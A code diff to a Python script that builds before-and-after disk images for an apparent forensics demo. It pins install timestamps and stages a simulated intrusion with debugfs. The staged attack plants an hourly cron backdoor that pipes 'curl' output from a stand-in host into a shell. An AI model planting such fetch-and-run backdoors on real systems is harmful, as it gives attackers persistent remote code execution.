@@ -51,6 +51,7 @@ _FILES: dict[str, tuple[str, int]] = {
 _SYMLINKS = {"bin": "usr/bin", "sbin": "usr/sbin", "usr/bin/sh": "bash"}
 
 # debugfs commands that turn "before" into "after" (paths inside the image).
+_INSTALL_TIME = "20261101080000"  # when the server was installed (UTC)
 _ATTACK_TIME = "20261120031415"  # when the "attacker" worked (UTC), so the demo is repeatable
 _ATTACK = """\
 write {payload} /etc/cron.hourly/backdoor
@@ -96,6 +97,11 @@ def _build_tree(root: Path) -> None:
     (root / "tmp").mkdir(mode=0o1777)
 
 
+def _debugfs(disk: Path, script: Path) -> None:
+    """Run a debugfs script on the demo's ext4 partition, in place (``disk?offset=N``)."""
+    _run(["debugfs", "-w", "-f", str(script), f"{disk}?offset={PART_START * SECTOR}"])
+
+
 def build_demo_images(workdir: Path) -> tuple[Path, Path]:
     """Build ``before.img`` and ``after.img`` (GPT disks with one ext4 partition) in ``workdir``."""
     workdir.mkdir(parents=True, exist_ok=True)
@@ -112,6 +118,12 @@ def build_demo_images(workdir: Path) -> tuple[Path, Path]:
     _run(["mkfs.ext4", "-q", "-F", "-L", "demo-root", "-d", str(tree), "-E",
           f"root_owner=0:0,offset={PART_START * SECTOR}", "-I", "256", "-U",
           "6f1d2c3b-0a9e-4d5c-8b7a-123456789abc", str(before), f"{FS_SIZE_MB << 10}k"])
+    # Every time of the "before" server is the install day, so the demo is the same each run.
+    paths = ["/" + str(p.relative_to(tree)) for p in sorted(tree.rglob("*"))]
+    pin = workdir / "install.debugfs"
+    pin.write_text("".join(f"sif {path} {field} {_INSTALL_TIME}\n" for path in paths
+                           for field in ("mtime", "ctime", "crtime", "atime")))
+    _debugfs(before, pin)
     payload = workdir / "backdoor.sh"
     payload.write_text("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")
     sshd = workdir / "sshd_config"
@@ -121,23 +133,7 @@ def build_demo_images(workdir: Path) -> tuple[Path, Path]:
     syslog = workdir / "syslog"
     syslog.write_text("boot ok\nsshd: accepted password for root\n")
     shutil.copyfile(before, after)
-    partition = workdir / "after-root.img"
-    _extract(after, partition, fs_bytes)
     script = workdir / "attack.debugfs"
     script.write_text(_ATTACK.format(payload=payload, sshd=sshd, sysctl=sysctl, syslog=syslog))
-    _run(["debugfs", "-w", "-f", str(script), str(partition)])
-    _insert(partition, after)
-    partition.unlink()
+    _debugfs(after, script)
     return before, after
-
-
-def _extract(disk: Path, partition: Path, length: int) -> None:
-    with open(disk, "rb") as src, open(partition, "wb") as dst:
-        src.seek(PART_START * SECTOR)
-        dst.write(src.read(length))
-
-
-def _insert(partition: Path, disk: Path) -> None:
-    with open(partition, "rb") as src, open(disk, "r+b") as dst:
-        dst.seek(PART_START * SECTOR)
-        dst.write(src.read())
